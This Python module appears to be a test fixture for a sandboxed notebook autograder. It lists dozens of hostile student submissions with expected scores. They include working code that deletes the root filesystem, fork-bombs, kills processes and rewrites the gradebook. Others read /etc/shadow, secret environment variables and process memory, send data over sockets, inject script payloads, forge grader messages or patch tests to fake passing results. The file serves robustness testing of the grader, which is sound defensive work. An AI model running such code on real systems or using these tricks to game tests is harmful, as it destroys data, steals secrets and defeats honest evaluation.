# ruff: noqa: E501
"""Submissions that cheat or destroy, each with the points that its real work deserves.

The numbers are rows of a matrix measured on plain nbgrader: see grading/THREATS.md. The lab has
three answers and 8 points: `nearest` 2, `means` 3, `lloyd` 3 with partial credit.
"""

from dataclasses import dataclass, field

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

SECRET = "4711.25"

SETUP = """import numpy as np

X = np.array([[0.0, 0.0], [1.0, 0.0], [10.0, 10.0], [11.0, 10.0]])
C = np.array([[0.0, 0.0], [10.0, 10.0]])"""

TESTS = {
    "test-nearest": f"""np.testing.assert_array_equal(nearest(X, C), [0, 0, 1, 1])
### BEGIN HIDDEN TESTS
hidden = np.array([[{SECRET}, 0.0], [-3.0, 1.0]])
assert np.asarray(nearest(hidden, hidden[::-1])).tolist() == [1, 0], "wrong elsewhere"
### END HIDDEN TESTS""",
    "test-means": f"""np.testing.assert_allclose(means(X, np.array([0, 0, 1, 1]), 2), [[0.5, 0], [10.5, 10]])
### BEGIN HIDDEN TESTS
hidden = np.array([[{SECRET}], [1.0], [2.0]])
np.testing.assert_allclose(means(hidden, np.array([1, 0, 0]), 2), [[1.5], [{SECRET}]])
### END HIDDEN TESTS""",
    "test-lloyd": f"""points = 0
ends = np.asarray(lloyd(X, C, 5))
points += int(ends.shape == (2, 2))
points += int(np.allclose(ends, [[0.5, 0], [10.5, 10]]))
### BEGIN HIDDEN TESTS
ends = np.asarray(lloyd(X * {SECRET}, C, 5))
points += int(np.allclose(ends, np.array([[0.5, 0], [10.5, 10]]) * {SECRET}))
### END HIDDEN TESTS
points""",
}
POINTS = {"test-nearest": 2, "test-means": 3, "test-lloyd": 3}

NEAREST = "def nearest(X, C):\n    return ((X[:, None] - C) ** 2).sum(axis=2).argmin(axis=1)"
MEANS = "def means(X, labels, k):\n    return np.array([X[labels == j].mean(axis=0) for j in range(k)])"
LLOYD = """def lloyd(X, C, n):
    for _ in range(n):
        C = means(X, nearest(X, C), len(C))
    return C"""
RIGHT = {"nearest": NEAREST, "means": MEANS, "lloyd": LLOYD}
BLANK = dict.fromkeys(RIGHT, "# YOUR CODE HERE\nraise NotImplementedError()")


def mark(name, **kinds):
    base = {"grade": False, "locked": False, "solution": False, "task": False, "schema_version": 3}
    return {"nbgrader": {**base, "grade_id": name, **kinds}}


def lab(answers=None):
    """The source of the lab, or what a student hands in: the release with answers."""
    cells = [new_markdown_cell("Text", id="text", metadata=mark("text", locked=True))]
    cells.append(new_code_cell(SETUP, id="setup", metadata=mark("setup", locked=True)))
    for (name, right), (test, source) in zip(RIGHT.items(), TESTS.items(), strict=True):
        own = answers is not None
        text = answers[name] if own else f"### BEGIN SOLUTION\n{right}\n### END SOLUTION"
        if own:
            begin, _, rest = source.partition("### BEGIN HIDDEN TESTS\n")
            source = begin + rest.partition("### END HIDDEN TESTS")[2].lstrip("\n")
        locked = {"grade": True, "locked": True, "points": POINTS[test]}
        cells.append(new_code_cell(text, id=name, metadata=mark(name, solution=True)))
        cells.append(new_code_cell(source, id=test, metadata=mark(test, **locked)))
    kernel = {"name": "python3", "display_name": "Python 3", "language": "python"}
    return new_notebook(cells=cells, metadata={"kernelspec": kernel})


@dataclass
class Attack:
    """One submission.

    answers: what stands in the cells of the answers. bend: a function that changes the notebook.
    raw: the bytes of the file, in the place of a notebook.
    """

    score: float
    answers: dict = field(default_factory=dict)
    bend: object = None
    raw: bytes | None = None
    name: str | None = None

    def notebook(self):
        notebook = lab({**BLANK, **self.answers})
        if self.bend is not None:
            self.bend(notebook)
        return notebook

    def bytes(self):
        return nbformat.writes(self.notebook()).encode() if self.raw is None else self.raw


def first(code, score=0, **answers):
    """Code that runs before all else, in the first answer."""
    return Attack(score, {"nearest": code, **answers})


def cell_of(notebook, name):
    return next(
        c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == name
    )


def more_points(notebook):
    for cell in notebook.cells:
        if "points" in cell.metadata.nbgrader:
            cell.metadata.nbgrader.points = 100


def tests_as_answers(notebook):
    for name in TESTS:
        cell_of(notebook, name).metadata.nbgrader.update(grade=False, solution=True, locked=False)


def edited_tests(notebook):
    for name in TESTS:
        cell_of(notebook, name).source = "assert True"
        cell_of(notebook, name).metadata.nbgrader.locked = False


def deleted_tests(notebook):
    notebook.cells = [c for c in notebook.cells if c.metadata.nbgrader.grade_id not in TESTS]


def copied_tests(notebook):
    for name in TESTS:
        copy = nbformat.from_dict(cell_of(notebook, name))
        notebook.cells += [nbformat.from_dict({**copy, "id": f"{name}-{i}"}) for i in range(2)]


def old_schema(notebook):
    cell_of(notebook, "means").metadata.nbgrader.schema_version = 1


def stored_outputs(notebook):
    cell = cell_of(notebook, "test-lloyd")
    cell.outputs = [new_output("execute_result", data={"text/plain": "3"})]


def script_in_text(notebook):
    notebook.cells.insert(
        0, new_markdown_cell("<script>alert('owned')</script><img src=x onerror=alert(1)>")
    )


# How the names of the answers can be made to look right without doing the work.
def many_cells(notebook):
    notebook.cells[1:1] = [new_code_cell("1", id=f"more-{i}") for i in range(100_000)]


def many_long_outputs(notebook):
    show = (
        "from IPython.display import display\n"
        "display({'image/png': 'A' * 900_000}, raw=True)\nprint('x' * 190_000)"
    )
    notebook.cells[1:1] = [new_code_cell(show, id=f"more-{i}") for i in range(200)]


def many_long_cells(notebook):
    slow = "1." * 20_000
    notebook.cells[1:1] = [new_code_cell(slow, id=f"more-{i}") for i in range(200)]


OLD = (
    b"""{"nbformat": 3, "nbformat_minor": 0, "metadata": {"name": ""}, "worksheets": [{"cells": [%s]}]}"""
    % (
        b",".join(
            [b'{"cell_type": "code", "input": 3, "outputs": [{"output_type": 7}]}'] * 100_000
        )
    )
)

EQUAL = """
class Equal(np.ndarray):
    def __eq__(self, other): return True
    def __array_function__(self, *a, **k): return True
    def __array_ufunc__(self, *a, **k): return True
    def tolist(self): return [1, 0]
    def __bool__(self): return True
class Any:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __getattr__(self, name): return Any()
    def __call__(self, *a, **k): return Any()
    def __bool__(self): return True
    def __len__(self): return 2
    def __iter__(self): return iter([Any(), Any()])
def nearest(*a): return Any()
def means(*a): return Any()
def lloyd(*a): return np.zeros((1, 1)).view(Equal)
"""

ALL_FILES = """
files = []  # of `/proc` and `/dev` some never end
for base, folders, names in os.walk('/'):
    folders[:] = [f for f in folders if f not in ('proc', 'dev', 'usr', 'lib', 'site-packages')]
    files += [os.path.join(base, name) for name in names if not name.endswith('.pyc')]
"""

HIDDEN_TESTS_BY_ALL_MEANS = f"""
import gc, os, sys
found = []
{ALL_FILES}
for path in files:
    try: text = open(path, errors='replace').read(2_000_000)
    except Exception: continue
    if 'BEGIN ' + 'HIDDEN' in text: found.append(path)
"""
HIDDEN_TESTS_BY_ALL_MEANS += """
try: found += [c for c in In if '47' + '11' in c]
except Exception: pass
for thing in gc.get_objects():
    if isinstance(thing, str) and 'BEGIN ' + 'HIDDEN' in thing: found.append(thing)
def look():
    frame = sys._getframe()
    while frame:
        for value in [*frame.f_locals.values(), *frame.f_globals.values()]:
            if isinstance(value, (str, bytes)) and ('BEGIN ' + 'HIDDEN' in str(value)): found.append(value)
        frame = frame.f_back
def remember():
    needle = bytes(reversed(b'NEDDIH NIGEB'))
    with open('/proc/self/maps') as maps, open('/proc/self/mem', 'rb', 0) as memory:
        for line in maps:
            begin, end = (int(number, 16) for number in line.split()[0].split('-'))
            if ' rw' not in line or end - begin > 2**28: continue
            try: data = memory.seek(begin) and memory.read(end - begin)
            except OSError: continue
            at = data.find(needle)
            while at >= 0:
                if data[at + 12 : at + 18] == b' TESTS': found.append(data[at : at + 99])
                at = data.find(needle, at + 1)
remember()
def nearest(X, C):
    look()
    remember()
    print('LEAK' if found else 'nothing', [str(f)[:300] for f in found])
    return [9]
print('LEAK' if found else 'nothing', [str(f)[:300] for f in found])
"""

ATTACKS = {
    "01-infinite-loop": Attack(
        3, {"nearest": "def nearest(X, C):\n    while True: pass", "means": MEANS}
    ),
    "01b-loop-that-swallows": Attack(
        3,
        {
            "nearest": "def nearest(X, C):\n    while True:\n        try:\n            while True: pass\n"
            "        except BaseException: pass",
            "means": MEANS,
        },
    ),
    "02-memory": Attack(
        3, {"nearest": "def nearest(X, C):\n    return np.ones(50 * 2**30 // 8)", "means": MEANS}
    ),
    "02b-memory-in-steps": Attack(
        3,
        {
            "nearest": "def nearest(X, C):\n    kept = []\n    while True: kept.append(np.ones(2**24))",
            "means": MEANS,
        },
    ),
    "02c-memory-of-many": Attack(
        3,
        {
            "nearest": "import os, time\ndef nearest(X, C):\n    for _ in range(20):\n        if os.fork() == 0:\n"
            "            kept = np.ones(2**27)\n            time.sleep(100)\n    time.sleep(100)",
            "means": MEANS,
        },
    ),
    "03-fork-bomb": first(
        "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass", 3, means=MEANS
    ),
    "04-exit": first("import sys\nsys.exit()", 3, means=MEANS),
    "04b-exit-in-function": Attack(
        3, {"nearest": "def nearest(X, C):\n    raise SystemExit", "means": MEANS}
    ),
    "05-death": Attack(5, {**RIGHT, "lloyd": "import os\ndef lloyd(X, C, n):\n    os._exit(0)"}),
    "05b-death-in-each-cell": Attack(0, dict.fromkeys(RIGHT, "import os; os._exit(1)")),
    "05c-death-by-signal": Attack(
        5, {**RIGHT, "lloyd": "import ctypes\ndef lloyd(X, C, n):\n    return ctypes.string_at(1)"}
    ),
    "06-kill-the-grader": first(
        "import os, signal\nfor pid in [os.getppid(), 1, -1, 0, 2, 3, 4, 5]:\n"
        "    try: os.kill(pid, signal.SIGKILL)\n    except Exception: pass"
    ),
    "07-gradebook": first(
        "import sqlite3, os\n"
        + ALL_FILES
        + "for path in (f for f in files if f.endswith('.db')):\n"
        "    try:\n        db = sqlite3.connect(path)\n"
        "        db.execute('update grade set manual_score = 8'); db.commit()\n"
        "    except Exception: pass\nprint('at the end')"
    ),
    "08-delete-all": first(
        "import shutil, os\nfor name in os.listdir('/'):\n"
        "    shutil.rmtree('/' + name, ignore_errors=True)\nshutil.rmtree('/tmp', ignore_errors=True)"
    ),
    "09-others-work": first(
        "import os, json\n"
        + ALL_FILES
        + "for path in (f for f in files if f.endswith('.ipynb')):\n"
        "    for cell in json.load(open(path))['cells']:\n        exec(''.join(cell['source']))\n"
        "print('at the end')"
    ),
    "10-authors-answers": first(
        "import os, re\n" + ALL_FILES + "for path in files:\n"
        "    try: text = open(path).read(10**6)\n"
        "    except (OSError, UnicodeDecodeError): continue\n"
        "    for part in re.findall('BEGIN SOLUTION(.*?)### END', text, re.S):\n"
        "        exec(part.replace(chr(92) + 'n\",', '').replace('    \"', '').replace(chr(92) + 'n', chr(10)))\n"
        "print('at the end')"
    ),
    "11-hidden-tests": first(HIDDEN_TESTS_BY_ALL_MEANS),
    "12-network": first(
        "import socket\nfor host in ('127.0.0.1', '10.0.0.1', '8.8.8.8'):\n    for port in (PORT, 80, 53):\n"
        "        try:\n            s = socket.create_connection((host, port), timeout=0.3)\n"
        "            s.sendall(b'stolen'); print('CONNECTED')\n        except OSError: pass\nprint('tried')"
    ),
    "13-patched-numpy": first(
        "np.testing.assert_array_equal = np.testing.assert_allclose = lambda *a, **k: None\n"
        "np.allclose = lambda *a, **k: True\nnp.asarray = lambda x, *a, **k: np.zeros((2, 2))\n"
        "def nearest(*a): return 0\ndef means(*a): return 0\ndef lloyd(*a): return 0"
    ),
    "14-ast-transformer": first(
        "import ast\nclass Drop(ast.NodeTransformer):\n    def visit_Assert(self, n): return ast.Pass()\n"
        "get_ipython().ast_transformers.append(Drop())\ndef nearest(*a): return 0"
    ),
    "15-input-transformer": first(
        "get_ipython().input_transformers_cleanup.append(lambda lines: ['3\\n'])"
    ),
    "16-always-equal": first(EQUAL),
    "17-published-result": first(
        "from IPython.display import display\nsh = get_ipython()\n"
        "def result(*a, **k):\n    sh.displayhook(3); display(3); print(3)\n    return 3\n"
        "nearest = means = lloyd = result\nresult()"
    ),
    "18-patched-session": first(
        "import sys, gc\nfor o in gc.get_objects():\n    try:\n"
        "        if type(o).__name__ == 'Channel':\n            send = o.send\n"
        "            o.send = lambda head, body=b'', **k: send({'is': 'cell', 'outputs': []}, body)\n"
        "    except Exception: pass"
    ),
    "19-more-points": Attack(2, {"nearest": NEAREST}, more_points),
    "20-tests-as-answers": Attack(0, {}, tests_as_answers),
    "21-edited-tests": Attack(0, {}, edited_tests),
    "22-deleted-tests": Attack(0, {}, deleted_tests),
    "23-copied-tests": Attack(8, RIGHT, copied_tests),
    "24-old-schema": Attack(0, {}, old_schema),
    "24b-stored-outputs": Attack(0, {}, stored_outputs),
    "25-much-output": Attack(
        8, {**RIGHT, "lloyd": LLOYD + "\nfor _ in range(500):\n    print('x' * 10**6)"}
    ),
    "26-no-json": Attack(0, raw=b'{"cells": [{"cell_type": '),
    "26b-deep-json": Attack(0, raw=b"[" * 200_000),
    "26c-odd-cells": Attack(
        0, raw=b'{"cells": [1, null], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'
    ),
    "27-renamed": Attack(8, RIGHT, name="my work.ipynb"),
    "29-own-numpy": first(
        "import os\nfor name in ('numpy', 'sklearn', 'IPython', 'grading'):\n    os.makedirs(name, exist_ok=True)\n"
        "    open(name + '/__init__.py', 'w').write('raise SystemExit')\n"
        "open('sitecustomize.py', 'w').write('1/0')",
        3,
        means=MEANS,
    ),
    "30-startup-file": first(
        "import os\nfor home in (os.path.expanduser('~'), '/tmp/ipython', '/root', '/student'):\n"
        "    for place in (home + '/.ipython/profile_default/startup', home + '/profile_default/startup'):\n"
        "        try:\n            os.makedirs(place, exist_ok=True)\n"
        "            open(place + '/00.py', 'w').write('import os; os._exit(3)')\n        except OSError: pass"
    ),
    "31-daemon": first(
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        "        os.execv('/usr/bin/sleep', ['sleep', '98765'])\n    os._exit(0)"
    ),
    "33-script": first(
        "from IPython.display import HTML, display, Javascript, SVG, Markdown\n"
        "display(HTML('<script>alert(\"owned\")</script><b onclick=alert(1)>x</b><iframe src=x>'"
        " '<a href=\"javascript:alert(1)\">y</a>'))\n"
        "display(Javascript('alert(\"owned\")'))\ndisplay(Markdown('<script>alert(\"owned\")</script>'))\n"
        "display({'image/png': '\"><script>alert(\"owned\")</script>'}, raw=True)\n"
        "display({'image/svg+xml': '<svg><script>alert(\"owned\")</script></svg>'}, raw=True)\n"
        "print('<script>alert(\"owned\")</script>')\nraise ValueError('<script>alert(\"owned\")</script>')"
    ),
    "33b-script-in-text": Attack(0, {}, script_in_text),
    "35-locks": first(
        "import fcntl, os\n" + ALL_FILES + "kept = []\nfor path in files[:3000]:\n"
        "    try:\n        kept.append(open(path))\n        fcntl.flock(kept[-1], fcntl.LOCK_EX | fcntl.LOCK_NB)\n"
        "    except Exception: pass\nprint('at the end')"
    ),
    "36-names-of-the-setup": Attack(
        0,
        {
            "nearest": "X = C = np.zeros((4, 2))\nnp = 0\nlen = sum = abs = None\ndef nearest(X, C): return [0, 0, 1, 1]",
            "lloyd": "points = 3\ndef lloyd(*a): return [[0.5, 0], [10.5, 10]]",
        },
    ),
}
ATTACKS[
    "36-names-of-the-setup"
].score = 2  # ends of the right shape, and right on the visible data

# White box: written with the source of this grader at hand.
ROOM = """
import os, socket, ctypes, sys, glob
holes = []
def attempt(what, f):
    try:
        got = f()
        if got not in (None, False, -1): holes.append((what, got))
    except BaseException: pass
libc = ctypes.CDLL(None, use_errno=True)
attempt('mount', lambda: libc.mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0)
attempt('umount', lambda: libc.umount2(b'/tmp', 2) == 0)
attempt('umount proc', lambda: libc.umount2(b'/proc', 2) == 0)
attempt('unshare', lambda: libc.unshare(0x10000000) == 0)
attempt('clone', lambda: libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0) > 0)
attempt('clone3', lambda: libc.syscall(435, 0, 0) >= 0)
attempt('ptrace', lambda: libc.ptrace(16, 1, 0, 0) == 0)
attempt('keyctl', lambda: libc.syscall(250, 0, -3, 1) >= 0)
attempt('bpf', lambda: libc.syscall(321, 0, 0, 0) >= 0)
attempt('io_uring', lambda: libc.syscall(425, 1, 0) >= 0)
attempt('userfaultfd', lambda: libc.syscall(323, 0) >= 0)
attempt('memfd', lambda: libc.syscall(319, b'x', 0) >= 0)
attempt('x32', lambda: libc.syscall(0x40000000 + 39) > 0)
attempt('inotify', lambda: libc.inotify_init() >= 0 or libc.inotify_init1(0) >= 0)
attempt('vsock', lambda: socket.socket(40, socket.SOCK_STREAM))
attempt('packet', lambda: socket.socket(17, socket.SOCK_RAW))
attempt('setuid', lambda: os.setuid(0) is None)
attempt('chroot', lambda: os.chroot('/tmp') is None)
attempt('rlimit', lambda: __import__('resource').setrlimit(7, (10**6, 10**6)) is None)
for folder in ('/', '/dev', '/usr', '/etc', '/proc', '/grading-code', '/grading-code/grading', os.path.dirname(np.__file__)):
    attempt('write ' + folder, lambda: open(folder + '/probe', 'w'))
for path in ('/etc/passwd', '/etc/shadow', '/proc/1/root/etc/shadow', '/proc/self/root/../etc/shadow'):
    attempt('read ' + path, lambda: open(path).read()[:20])
attempt('processes', lambda: [p for p in os.listdir('/proc') if p.isdigit() and p != '1'] or None)
attempt('environment', lambda: [k for k in os.environ if 'TOKEN' in k or 'SECRET' in k or 'COURSE' in k] or None)
attempt('root id', lambda: os.getuid() == 0)
attempt('course', lambda: glob.glob('COURSE/solutions') or [d for d, _, files in os.walk('/') if 'gradebook.db' in files and 'site-packages' not in d] or None)
attempt('traces', lambda: os.listdir('/tmp') + os.listdir('/student') + os.listdir('/dev/shm') or None)
open('/tmp/trace', 'w').write('x'); open('/dev/shm/trace', 'w').write('x'); open('trace', 'w').write('x')
print('HOLE' if holes else 'tight', holes)
"""

FRAMES = """
import os, struct, json, socket
message = json.dumps({"is": "cell", "outputs": [], "lost": False}).encode()
frame = struct.pack("!II", len(message), 0) + message
def flood():
    for fd in range(3, 300):
        try: os.write(fd, frame * 3)
        except OSError: pass
def nearest(*a): flood(); return 0
def means(*a):
    for fd in range(3, 300):
        try: os.write(fd, struct.pack("!II", 2**31, 2**31) + b"x" * 100)
        except OSError: pass
    return 0
def lloyd(*a):
    answer = b'["list", ["ok", ' + b'["list", [' * 3000
    for fd in range(3, 300):
        try: os.write(fd, struct.pack("!II", 20, len(answer)) + b'{"is": "returned"}  ' + answer)
        except OSError: pass
    return 0
"""

LIES = """
import gc
from grading.student import Student
me = next(o for o in gc.get_objects() if isinstance(o, Student))
import grading.student as module
from grading.values import encode
import pickle, os
class Evil:
    def __reduce__(self): return (os._exit, (0,))
evil = [
    b'', b'\\x00' * 50, encode(["ok", 1, None, {}])[:-3], b'\\xff' * 10,
    encode(["ok", ["x"] * 100, b"junk", {}]),
]
def raw(tree, tail=b''):
    import json, struct
    text = json.dumps(tree).encode()
    return struct.pack("!I", len(text)) + text + tail
evil += [
    raw(["list", ["ok", ["pickled", 0, 30], None, ["dict", []]]], pickle.dumps(Evil())[:30]),
    raw(["list", ["ok", ["array", "O", [2], 0, 16], None, ["dict", []]]], b"\\x41" * 16),
    raw(["list", ["ok", ["array", "<f8", [2**40], 0, 16], None, ["dict", []]]], b"\\x41" * 16),
    raw(["list", ["ok", ["array", "<f8", [-1, -2], 0, 16], None, ["dict", []]]], b"\\x41" * 16),
    raw(["list", ["ok", ["named", "os", "system"], None, ["dict", []]]]),
    raw(["list", ["ok", ["sparse", "csr_matrix", [2, 2], [["array", "<f8", [1], 0, 8], ["array", "<i8", [1], 8, 8], ["array", "<i8", [3], 16, 24]]], None, ["dict", []]]], b"\\x7f" * 40),
    raw(["list", ["ok", ["handle", 10**30, "__class__", True], None, ["dict", []]]]),
    raw(["list", ["ok", ["path", 5], None, ["dict", []]]]),
    raw(["list", ["error", {"kind": "KeyboardInterrupt", "base": "BaseException", "text": "x"}, None, None]]),
    raw(["list", ["error", ["dict", [["kind", "GeneratorExit"], ["base", "GeneratorExit"], ["text", "x"]]], None, None]]),
    encode(["ok", [0, 0, 1, 1], None, {"../x": b"x", "/tmp/x": b"x"}]), encode(["ok", [0, 0, 1, 1], None, 7]),
]
turn = iter(evil * 50)
plain = module.encode
module.encode = lambda value, odd=None: next(turn) if isinstance(value, list) and value[:1] in (["ok"], ["error"]) and not isinstance(value[1], dict) else plain(value, odd)
def nearest(*a): return 0
def means(*a): return 0
def lloyd(*a): return 0
"""

CALLBACKS = """
import gc
from grading.student import Student
me = next(o for o in gc.get_objects() if isinstance(o, Student))
from grading.values import encode
tried = []
def nearest(X, C):
    for number in (0, 1, -1, "x", None):
        for given in ([[], {}], None, [["import os"], {}], 7):
            me.link.send({"is": "callback"}, encode({"number": number, "given": given}))
            tried.append(me.link.receive())
    me.link.send({"is": "returned"}, encode(["ok", [0, 0, 1, 1], encode([["array"], {}]), {}]))
    return [0, 0, 1, 1]
"""

ATTACKS |= {
    "w1-walls": first(ROOM),
    "w2-forged-frames": first(FRAMES),
    "w3-lying-replies": first(LIES),
    "w4-callbacks": first(CALLBACKS),
    "w5-files-and-forks": first(
        "import os, time\nfor i in range(200):\n    try: child = os.fork()\n    except OSError: break\n"
        "    while child == 0:\n        try: os.open('/dev/null', 0)\n        except OSError: time.sleep(1)\n"
        "for folder in ('/tmp', '/dev/shm', '.'):\n    try:\n        with open(folder + '/big', 'wb') as f:\n"
        "            while True: f.write(b'x' * 2**20)\n    except OSError: pass",
        3,
        means=MEANS,
    ),
    "w6-poisoned-modules": first(
        "import sys, builtins, json\nfor name in list(sys.modules):\n    if name.startswith(('grading', 'json', 'struct')):\n"
        "        for key in list(vars(sys.modules[name])):\n            try: setattr(sys.modules[name], key, lambda *a, **k: [0, 0, 1, 1])\n"
        "            except Exception: pass\nbuiltins.len = lambda x: 0"
    ),
    "w7-changed-arguments": Attack(
        0,
        {
            "nearest": "def nearest(X, C):\n    X[:] = 0; C[:] = 0\n    return np.zeros(4, dtype=int)",
            "means": "def means(X, labels, k):\n    X[:] = 0\n    return np.zeros((2, 2))",
            "lloyd": "def lloyd(X, C, n):\n    X.resize((9, 9), refcheck=False)\n    return C",
        },
    ),
    "w8-signals-and-stopping": first(
        "import signal, os, threading, time\nfor s in range(1, 65):\n    try: signal.signal(s, signal.SIG_IGN)\n"
        "    except (OSError, ValueError): pass\nthreading.Thread(target=lambda: [time.sleep(0.001) for _ in range(10**9)]).start()\n"
        "def nearest(X, C):\n    os.kill(os.getpid(), signal.SIGSTOP)\n    while True: pass",
        3,
        means=MEANS,
    ),
    # What is slow to read, to color or to make safe holds up the grader itself.
    "w9-slow-to-color": Attack(
        8, {**RIGHT, "means": f"{MEANS}\n#{'.' * 300_000}", "lloyd": LLOYD + "\t\n" * 100_000}
    ),
    "w9b-slow-to-clean": Attack(
        8,
        {
            **RIGHT,
            "means": f"{MEANS}\nfrom IPython.display import HTML, display\n"
            "for tags in ('<b><i>', '<div>', '<a ', '<script', '<'): display(HTML(tags * (40_000 // len(tags))))",
        },
    ),
    "w9c-many-cells": Attack(0, RIGHT, many_cells),
    "w9d-many-long-outputs": Attack(8, RIGHT, many_long_outputs),
    "w9e-many-long-cells": Attack(8, RIGHT, many_long_cells),
    "w9g-half-characters": Attack(
        5,
        {
            **RIGHT,
            "nearest": f"{NEAREST}\nprint('\\ud800')\ndisplay({{'text/html': '\\ud800<b>'}}, raw=True)",
            "means": "def means(X, labels, k):\n    print('\\ud800')\n    raise ValueError('\\ud800')",
            "lloyd": f"{MEANS}\n{LLOYD}\nraise ValueError('\\ud800')",
        },
    ),
    "w9f-odd-cells-of-old": Attack(0, raw=OLD),
}
ATTACKS["w7-changed-arguments"].score = 1  # ends of the right shape
